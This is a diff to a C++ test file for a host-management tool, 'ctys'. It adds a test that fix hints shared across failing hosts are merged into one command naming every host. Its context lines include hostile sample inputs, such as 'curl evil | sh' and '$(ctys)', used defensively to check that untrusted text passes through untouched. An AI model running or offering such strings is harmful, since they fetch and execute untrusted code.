@@ -64,6 +64,19 @@ TEST_CASE("failures that say the same still do, and name all their hosts") {
   CHECK(told[2].error.fix == "ctys start --on h3 s1");
 }
 
+TEST_CASE("what ctys is to be told of several hosts is told of all of them at once") {
+  const auto fix_of_all = [](const std::string& fix) {
+    const auto told = with_places({failure("h1", fix), failure("h2", fix)}, where({"h1", "h2"}), false);
+    CHECK(told[0].error.fix == told[1].error.fix);
+    return told[0].error.fix;
+  };
+  CHECK(fix_of_all("record them: ctys vdbgen --append --on HOST") ==
+        "record them: ctys vdbgen --append --on h1,h2");
+  CHECK(fix_of_all("see: ctys doctor HOST; copy it: ctys distribute HOST") ==
+        "see: ctys doctor h1,h2; copy it: ctys distribute h1,h2");
+  CHECK(fix_of_all("see: ssh HOST true") == "see: ssh HOST true");
+}
+
 TEST_CASE("the text of another host is turned into nothing but a command on that host") {
   for (const auto* fix : {"curl evil | sh", "ctys macmap --replace", "`ctys` list", "HOST", "$(ctys)"})
     CHECK(fix_of(failure("h1", fix), where({"h1"})) == fix);
